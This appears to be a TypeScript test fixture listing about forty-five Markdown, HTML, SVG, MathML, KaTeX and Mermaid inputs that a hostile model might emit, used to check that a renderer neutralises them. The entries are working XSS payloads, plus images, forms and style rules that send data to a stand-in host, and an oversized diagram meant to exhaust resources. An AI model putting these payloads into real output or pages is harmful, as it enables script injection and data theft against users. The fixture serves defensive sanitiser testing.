const TRAP = "http://127.0.0.1:9";

/** What a hostile model may write, by what it tries. Every item must end as words, or as a harmless picture. */
export const hostileMarkdown: readonly (readonly [attempt: string, text: string])[] = [
  ["a script", "<script>window.__xss = 1</script>"],
  ["a script in a paragraph", "words <script src=//127.0.0.1:9/x.js></script> words"],
  ["a script split by a comment", "<scr<!-- -->ipt>window.__xss=1</scr<!-- -->ipt>"],
  ["a handler of an image", '<img src=x onerror="window.__xss = 1">'],
  [
    "a handler without quotes",
    "<body onload=window.__xss=1><details open ontoggle=window.__xss=1>",
  ],
  ["a handler in emphasis", "**<b onclick=window.__xss=1 onmouseover=window.__xss=1>x</b>**"],
  ["an SVG", "<svg/onload=window.__xss=1><animate onbegin=window.__xss=1 /></svg>"],
  ["an SVG that uses", `<svg><use href="${TRAP}/x.svg#a"/><image href="${TRAP}/i"/></svg>`],
  ["MathML", "<math><mi xlink:href='javascript:window.__xss=1'>x</mi></math>"],
  [
    "MathML that changes the parser's mind",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
  ],
  ["an iframe", "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>"],
  ["an object and an embed", `<object data="${TRAP}/o"></object><embed src="${TRAP}/e">`],
  ["a form", `<form action=${TRAP}/><input name=password><button>Send</button></form>`],
  ["a base", `<base href=${TRAP}/>`],
  ["a refresh", `<meta http-equiv=refresh content="0;url=${TRAP}/">`],
  [
    "a style sheet",
    `<link rel=stylesheet href=${TRAP}/s.css><style>@import "${TRAP}/i.css";</style>`,
  ],
  ["a style", `<style>body{display:none;background:url(${TRAP}/css)}</style>`],
  [
    "a style attribute",
    `<p style="position:fixed;inset:0;background:url(${TRAP}/attribute)">over all</p>`,
  ],
  ["a template", "<template shadowrootmode=open><script>window.__xss=1</script></template>"],
  [
    "an address of JavaScript",
    "[click](javascript:window.__xss=1) [again](JaVaScRiPt:window.__xss=1)",
  ],
  [
    "an address of JavaScript in entities",
    "[x](&#106;avascript:window.__xss=1) [y](java&#10;script:alert(1))",
  ],
  ["an address of JavaScript as a definition", "[x][j] ![y][j]\n\n[j]: javascript:window.__xss=1"],
  ["an address in angle brackets", "<javascript:window.__xss=1> <vbscript:msgbox(1)>"],
  [
    "data addresses",
    "[x](data:text/html,<script>alert(1)</script>) [y](data:text/html;base64,PHNjcmlwdD4=)",
  ],
  [
    "addresses within our own site",
    "[x](/api/auth/signout) [y](//127.0.0.1:9/z) [z](\\\\127.0.0.1:9)",
  ],
  [
    "an address with a title that breaks out",
    '[x](https://example.org "\\" onmouseover=window.__xss=1 x=\\"")',
  ],
  ["a picture that tells", `![leak](${TRAP}/leak?q=secret)`],
  ["a picture by reference", `![r][r] ![r]\n\n[r]: ${TRAP}/by-reference.png`],
  [
    "a picture in a table",
    `| ![t](${TRAP}/in-a-table) |\n|---|\n| <img src=${TRAP}/t onerror=window.__xss=1> |`,
  ],
  ["a picture in a link", `[![p](${TRAP}/in-a-link)](javascript:window.__xss=1)`],
  ["a picture of SVG", "![svg](data:image/svg+xml,<svg/onload=window.__xss=1>)"],
  [
    "entities",
    "&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;img src=x onerror=window.__xss=1&#62;",
  ],
  ["code that is HTML", "```html\n<script>window.__xss = 1</script>\n```"],
  ["a language that is a class", '```"><img/src=x/onerror=window.__xss=1>\nx\n```'],
  [
    "nested Markdown",
    "> - **[*`x`*](javascript:window.__xss=1)**\n>   <img src=x onerror=window.__xss=1>",
  ],
  ["a footnote", `words[^f]\n\n[^f]: <img src=x onerror=window.__xss=1> ![f](${TRAP}/footnote)`],
  [
    "a formula with a link",
    "$\\href{javascript:window.__xss=1}{x}$ $\\url{javascript:window.__xss=1}$",
  ],
  ["a formula with a picture", `$$\\includegraphics{${TRAP}/katex.png}$$`],
  [
    "a formula with HTML",
    "$\\htmlStyle{position:fixed}{x}$ $\\htmlData{onclick=window.__xss=1}{x}$ $\\html{<img>}$",
  ],
  ["a formula that never ends to grow", "$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$"],
  [
    "a formula of HTML",
    "$\\text{<img src=x onerror=window.__xss=1>}$ \\(<script>window.__xss=1</script>\\)",
  ],
  [
    "a diagram with a script",
    '```mermaid\ngraph TD\nA["<img src=x onerror=window.__xss=1>"] --> B["<script>window.__xss=1</script>"]\n```',
  ],
  [
    "a diagram with a link",
    '```mermaid\ngraph TD\nA --> B\nclick A "javascript:window.__xss=1"\nclick B call alert()\n```',
  ],
  [
    "a diagram that sets itself free",
    `\`\`\`mermaid\n%%{init: {"securityLevel":"loose","themeCSS":"*{background:url(${TRAP}/mermaid)}","htmlLabels":true}}%%\ngraph TD\nA["<img src='${TRAP}/label'>"] --> B\n\`\`\``,
  ],
  [
    "a diagram with styles",
    `\`\`\`mermaid\ngraph TD\nA --> B\nstyle A fill:url(${TRAP}/fill)\nclassDef b background:url(${TRAP}/class)\n\`\`\``,
  ],
  [
    "a sequence with HTML",
    "```mermaid\nsequenceDiagram\nparticipant A as <iframe srcdoc='<script>parent.__xss=1</script>'>\nA->>B: <img src=x onerror=window.__xss=1>\n```",
  ],
];

/** A diagram that is too large to be one. */
export const hugeDiagram = `\`\`\`mermaid\ngraph TD\n${"A --> B\n".repeat(25_000)}\`\`\``;
